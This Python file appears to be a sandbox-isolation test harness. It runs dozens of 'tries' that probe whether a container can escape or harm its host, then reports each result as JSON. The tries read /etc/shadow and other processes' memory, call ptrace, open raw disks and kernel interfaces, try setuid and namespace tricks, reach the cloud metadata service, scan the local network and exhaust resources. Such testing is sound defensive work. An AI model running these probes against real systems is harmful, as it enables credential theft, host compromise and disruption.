"""A hostile program, of many tries. It needs nothing but Python's own library, as it runs inside a box.

usage: python hostile.py FACTS [TRY...]

FACTS is a JSON object in a file: what a try needs to know of the host that it wants to reach; of its secret
that is a hash. Prints a JSON object: for each try `true`, or the error that stopped it; and as `loot` the
secret, by each try that got hold of it. Then it stays for as many seconds as FACTS say, to be looked at.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import hashlib
import json
import os
import platform
import re
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
TRIES: dict[str, Callable[[dict[str, Any]], object]] = {}


class Loot(str):
    """The host's secret."""

    __slots__ = ()


#: Numbers of system calls that have no function in libc.
NUMBERS = {
    "x86_64": {
        "add_key": 248,
        "bpf": 321,
        "io_destroy": 207,
        "io_setup": 206,
        "io_uring_setup": 425,
        "keyctl": 250,
        "mq_open": 240,
        "mq_unlink": 241,
        "name_to_handle_at": 303,
        "perf_event_open": 298,
        "process_vm_readv": 310,
        "sync": 162,
        "userfaultfd": 323,
        "open_tree": 428,
        "kcmp": 312,
    },
    "aarch64": {
        "add_key": 217,
        "bpf": 280,
        "io_destroy": 1,
        "io_setup": 0,
        "io_uring_setup": 425,
        "keyctl": 219,
        "mq_open": 180,
        "mq_unlink": 181,
        "name_to_handle_at": 264,
        "perf_event_open": 241,
        "process_vm_readv": 270,
        "sync": 81,
        "userfaultfd": 282,
        "open_tree": 428,
        "kcmp": 272,
    },
}[platform.machine()]


def attempt(
    function: Callable[[dict[str, Any]], object],
) -> Callable[[dict[str, Any]], object]:
    TRIES[function.__name__] = function
    return function


def loot(data: bytes, facts: dict[str, Any]) -> Loot:
    for word in re.findall(rb"[0-9a-f]{32}", data):
        if hashlib.sha256(word).hexdigest() == facts["digest"]:
            return Loot(word.decode())
    raise PermissionError("the secret is not in it")


def checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def call(name: str, *arguments: Any) -> int:
    # Without their types, numbers would be passed as 32 bits.
    return checked(
        libc.syscall(
            NUMBERS[name],
            *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments),
        )
    )


# -- files and processes of the host


@attempt
def read_a_key(facts: dict[str, Any]) -> object:
    return loot(Path(facts["key"]).read_bytes(), facts)


@attempt
def read_the_passwords(facts: dict[str, Any]) -> object:
    return Path("/etc/shadow").read_bytes()


@attempt
def read_memory_by_proc(facts: dict[str, Any]) -> object:
    with open(f"/proc/{facts['victim']}/mem", "rb", buffering=0) as memory:
        memory.seek(facts["address"])
        return loot(memory.read(32), facts)


@attempt
def read_memory_by_call(facts: dict[str, Any]) -> object:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    buffer = ctypes.create_string_buffer(32)
    here = Vector(ctypes.addressof(buffer), 32)
    there = Vector(facts["address"], 32)
    call(
        "process_vm_readv",
        facts["victim"],
        ctypes.byref(here),
        1,
        ctypes.byref(there),
        1,
        0,
    )
    return loot(buffer.raw, facts)


@attempt
def find_a_secret_in_environments(facts: dict[str, Any]) -> object:
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            return loot(path.read_bytes(), facts)
        except OSError:  # PermissionError is one
            continue
    raise PermissionError("no process shows it")


@attempt
def signal_a_process(facts: dict[str, Any]) -> object:
    os.kill(facts["victim"], 0)
    return Path(f"/proc/{facts['victim']}/comm").read_text()


@attempt
def trace_a_process(facts: dict[str, Any]) -> object:
    attach, detach = 16, 17
    checked(libc.ptrace(attach, facts["victim"], None, None))
    os.waitpid(facts["victim"], 0x40000000)
    return checked(libc.ptrace(detach, facts["victim"], None, None)) == 0


@attempt
def write_into_the_host(facts: dict[str, Any]) -> object:
    return Path(facts["planted"]).write_text("here")


@attempt
def write_into_the_image(facts: dict[str, Any]) -> object:
    Path("/usr/planted").write_text("here")
    Path("/usr/planted").unlink()
    return True


@attempt
def see_the_hosts_variables(facts: dict[str, Any]) -> object:
    if facts["variable"] not in os.environ:
        raise PermissionError("it is not there")
    return True


@attempt
def inherit_open_files(facts: dict[str, Any]) -> object:
    for number in range(3, 64):
        try:
            target = str(Path(f"/proc/self/fd/{number}").readlink())
        except OSError:
            continue
        if facts["key"] in target:
            return True
    raise PermissionError("none")


@attempt
def open_by_handle(facts: dict[str, Any]) -> object:
    handle, mount = ctypes.create_string_buffer(b"\x80" + bytes(255)), ctypes.c_int()
    return (
        call(
            "name_to_handle_at",
            -100,
            b"/",
            ctypes.byref(handle),
            ctypes.byref(mount),
            0,
        )
        == 0
    )


# -- devices and the kernel


@attempt
def open_a_disk(facts: dict[str, Any]) -> object:
    with open(facts["block"], "rb", buffering=0) as disk:
        return loot(disk.read(512), facts)


@attempt
def make_a_device(facts: dict[str, Any]) -> object:
    place = Path(facts["scratch"]) / "device"
    os.mknod(place, 0o60600, os.makedev(*facts["numbers"]))
    try:
        with place.open("rb", buffering=0) as disk:
            return loot(disk.read(512), facts)
    finally:
        place.unlink()


@attempt
def write_the_kernels_log(facts: dict[str, Any]) -> object:
    return os.open("/dev/kmsg", os.O_WRONLY)


@attempt
def read_kernel_addresses(facts: dict[str, Any]) -> object:
    lines = Path("/proc/kallsyms").read_text().splitlines()
    if not any(not line.startswith("0000000000000000") for line in lines):
        raise PermissionError("all are zero")
    return True


@attempt
def open_the_core_pattern(facts: dict[str, Any]) -> object:
    return os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@attempt
def open_sysrq(facts: dict[str, Any]) -> object:
    return os.open("/proc/sysrq-trigger", os.O_WRONLY)


@attempt
def read_the_hardware(facts: dict[str, Any]) -> object:
    return list(Path("/sys/class/net").iterdir()) + list(Path("/sys/devices").iterdir()) or _nothing()


def _nothing() -> object:
    raise PermissionError("empty")


@attempt
def load_a_filter_into_the_kernel(facts: dict[str, Any]) -> object:
    attributes = ctypes.create_string_buffer(128)
    ctypes.cast(attributes, ctypes.POINTER(ctypes.c_uint32))[0] = 2  # an array map
    for index, value in enumerate((4, 4, 1), start=1):
        ctypes.cast(attributes, ctypes.POINTER(ctypes.c_uint32))[index] = value
    return call("bpf", 0, ctypes.byref(attributes), 128)


@attempt
def watch_with_performance_counters(facts: dict[str, Any]) -> object:
    attributes = ctypes.create_string_buffer(112)
    words = ctypes.cast(attributes, ctypes.POINTER(ctypes.c_uint32))
    words[0], words[1] = 1, 112  # a software event
    return call("perf_event_open", ctypes.byref(attributes), 0, -1, -1, 0)


@attempt
def handle_page_faults(facts: dict[str, Any]) -> object:
    return call("userfaultfd", 0)


@attempt
def set_up_a_ring(facts: dict[str, Any]) -> object:
    parameters = ctypes.create_string_buffer(120)
    return call("io_uring_setup", 4, ctypes.byref(parameters))


@attempt
def add_a_key_to_the_kernel(facts: dict[str, Any]) -> object:
    return call("add_key", b"user", b"ionet", b"secret", 6, -2)


@attempt
def set_the_clock(facts: dict[str, Any]) -> object:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return True


@attempt
def restart_the_machine(facts: dict[str, Any]) -> object:
    # With a wrong magic number: whoever may restart is told so, others are told that they may not.
    try:
        checked(libc.syscall(169 if platform.machine() == "x86_64" else 142, 1, 2, 3, 0))
    except OSError as error:
        if error.errno != errno.EINVAL:
            raise
    return True


# -- more power


@attempt
def become_root(facts: dict[str, Any]) -> object:
    os.setuid(0)
    return list(Path("/root").iterdir()) is not None


@attempt
def make_a_user_namespace(facts: dict[str, Any]) -> object:
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            "import ctypes,os;c=ctypes.CDLL(None);os._exit(-c.unshare(0x10000000) & 1)",
        ],
        check=False,
    )
    if done.returncode:
        raise PermissionError("refused")
    return True


@attempt
def make_a_namespace_by_clone(facts: dict[str, Any]) -> object:
    new_user, child_signal = 0x10000000, 17
    number = 56 if platform.machine() == "x86_64" else 220
    child = libc.syscall(number, new_user | child_signal, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    checked(child)
    os.waitpid(child, 0)
    return True


@attempt
def join_a_namespace(facts: dict[str, Any]) -> object:
    code = f"import ctypes,os;f=os.open('/proc/{facts['victim']}/ns/uts',0)"
    code += ";os._exit(-ctypes.CDLL(None).setns(f,0) & 1)"
    done = subprocess.run([sys.executable, "-c", code], check=False, stderr=subprocess.DEVNULL)
    if done.returncode:
        raise PermissionError("refused")
    return True


@attempt
def mount_something(facts: dict[str, Any]) -> object:
    target = facts["scratch"].encode()
    checked(libc.mount(b"none", target, b"tmpfs", 0, None))
    return checked(libc.umount2(target, 2)) == 0


@attempt
def clone_a_mount(facts: dict[str, Any]) -> object:
    return call("open_tree", -100, b"/", 1)


@attempt
def change_the_root(facts: dict[str, Any]) -> object:
    child = os.fork()
    if child == 0:
        try:
            os.chroot(facts["scratch"])
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        raise PermissionError("refused")
    return True


@attempt
def name_the_host(facts: dict[str, Any]) -> object:
    socket.sethostname(socket.gethostname())
    return True


@attempt
def run_before_all_others(facts: dict[str, Any]) -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    return True


@attempt
def never_be_killed_for_memory(facts: dict[str, Any]) -> object:
    Path("/proc/self/oom_score_adj").write_text("-1000")
    Path("/proc/self/oom_score_adj").write_text("0")
    return True


@attempt
def leave_the_control_group(facts: dict[str, Any]) -> object:
    return os.open(facts["cgroup"], os.O_WRONLY)


@attempt
def gain_by_running_another_program(facts: dict[str, Any]) -> object:
    no_new_privileges = 39
    if libc.prctl(no_new_privileges, 0, 0, 0, 0):
        raise PermissionError("nothing can be gained by it")
    return True


# -- the network


def reach(host: str, facts: dict[str, Any]) -> object:
    with socket.create_connection((host, facts["port"]), timeout=2) as stream:
        return loot(stream.recv(200), facts)


@attempt
def reach_the_hosts_loopback(facts: dict[str, Any]) -> object:
    return reach("127.0.0.1", facts)


@attempt
def reach_the_local_network(facts: dict[str, Any]) -> object:
    return reach(facts["lan"], facts)


@attempt
def reach_the_metadata_service(facts: dict[str, Any]) -> object:
    return reach("169.254.169.254", facts)


@attempt
def scan_the_local_network(facts: dict[str, Any]) -> object:
    prefix = facts["lan"].rpartition(".")[0]
    for last in range(1, 255):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((f"{prefix}.{last}", facts["port"]))
            if f"{prefix}.{last}" == facts["lan"]:
                probe.send(b"who is there?")
    return True


@attempt
def reach_the_internet(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 53))
    return True


@attempt
def be_reached_from_outside(facts: dict[str, Any]) -> object:
    """Somebody of the machine tries this port again and again, and gives the secret to whoever answers."""
    with socket.create_server(("0.0.0.0", facts["door"])) as door:
        door.settimeout(facts["patience"])
        stream, _ = door.accept()
        with stream:
            stream.settimeout(facts["patience"])
            return loot(stream.recv(200), facts)


@attempt
def reach_an_abstract_socket(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + facts["abstract"])
    return True


@attempt
def see_other_interfaces(facts: dict[str, Any]) -> object:
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    return names or _nothing()


@attempt
def listen_to_all_frames(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3):
        return True


@attempt
def forge_packets(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return True


@attempt
def speak_to_the_hypervisor(facts: dict[str, Any]) -> object:
    with socket.socket(40, socket.SOCK_STREAM):  # AF_VSOCK
        return True


@attempt
def use_the_kernels_cipher_sockets(facts: dict[str, Any]) -> object:
    with socket.socket(38, socket.SOCK_SEQPACKET):  # AF_ALG
        return True


@attempt
def speak_to_the_firewall(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12):  # NETLINK_NETFILTER
        return True


@attempt
def change_the_routes(facts: dict[str, Any]) -> object:
    add, remove, up_host_reject = 0x890B, 0x890C, 0x0205
    nobody = struct.pack("=H2x4s8x", socket.AF_INET, socket.inet_aton("203.0.113.254"))
    route = struct.pack(
        "@L16s16s16sHhLPhPLLH",
        0,
        nobody,
        b"",
        b"",
        up_host_reject,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        fcntl.ioctl(control, add, route)
        fcntl.ioctl(control, remove, route)
    return True


@attempt
def close_an_interface(facts: dict[str, Any]) -> object:
    """As it is: the right to do so is what is tried."""
    get_flags, set_flags = 0x8913, 0x8914
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        request = fcntl.ioctl(control, get_flags, struct.pack("16sH22x", b"lo", 0))
        fcntl.ioctl(control, set_flags, request)
    return True


@attempt
def load_another_protocol(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262):  # MPTCP
        return True


# -- taking all of something of which there is one for the machine


@attempt
def fill_sockets_that_nobody_counts(facts: dict[str, Any]) -> object:
    ask_for_the_loopback = struct.pack("=IHHIIBBHiII", 32, 18, 1, 1, 0, 0, 0, 0, 1, 0, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.setblocking(False)
        for sent in range(1000):
            try:
                route.send(ask_for_the_loopback)
            except BlockingIOError:
                return sent > 100
    return True


@attempt
def watch_files_as_root(facts: dict[str, Any]) -> object:
    os.close(checked(libc.inotify_init1(0)))
    return True


@attempt
def reserve_asynchronous_requests(facts: dict[str, Any]) -> object:
    context = ctypes.c_ulong(0)
    call("io_setup", 1000, ctypes.byref(context))
    return call("io_destroy", context) == 0


@attempt
def reserve_message_queues(facts: dict[str, Any]) -> object:
    attributes = (ctypes.c_long * 8)(0, 10, 1024)
    name = f"ionet{os.getpid()}".encode()
    os.close(call("mq_open", name, os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(attributes)))
    return call("mq_unlink", name) == 0


@attempt
def queue_many_signals(facts: dict[str, Any]) -> object:
    number = signal.SIGRTMIN
    signal.pthread_sigmask(signal.SIG_BLOCK, [number])
    try:
        for _ in range(facts["signals"]):
            checked(libc.sigqueue(os.getpid(), int(number), ctypes.c_void_p(0)))
    finally:
        while signal.sigtimedwait([number], 0) is not None:
            pass
    return True


@attempt
def start_the_hosts_handler_of_crashes(facts: dict[str, Any]) -> object:
    import resource

    # It is started whatever the limit, unless that is 1.
    if resource.getrlimit(resource.RLIMIT_CORE)[0] == 1:
        resource.setrlimit(resource.RLIMIT_CORE, (0, 1))
    return True


@attempt
def write_all_disks_out(facts: dict[str, Any]) -> object:
    return call("sync") == 0


# -- taking all of something


@attempt
def start_many_processes(facts: dict[str, Any]) -> object:
    children = []
    try:
        for _ in range(facts["processes"]):
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
    return True


@attempt
def fill_the_disk(facts: dict[str, Any]) -> object:
    return fill(Path(facts["scratch"]) / "large", facts["bytes"])


@attempt
def fill_the_shared_memory(facts: dict[str, Any]) -> object:
    return fill(Path("/dev/shm/large"), facts["bytes"])


def fill(path: Path, size: int) -> object:
    try:
        with path.open("wb") as file:
            os.posix_fallocate(file.fileno(), 0, size)
    finally:
        path.unlink()
    return True


@attempt
def open_many_files(facts: dict[str, Any]) -> object:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return True


def main() -> None:
    facts = json.loads(Path(sys.argv[1]).read_text())
    report: dict[str, object] = {}
    shown: dict[str, str] = {}
    for name in sys.argv[2:] or TRIES:
        try:
            result = TRIES[name](facts)
            report[name] = bool(result) or "nothing came of it"
            if isinstance(result, Loot):
                shown[name] = result
        except Exception as error:
            report[name] = f"{type(error).__name__}: {error}"
    print(json.dumps({**report, "loot": shown}), flush=True)
    time.sleep(facts.get("stays", 0))


if __name__ == "__main__":
    main()
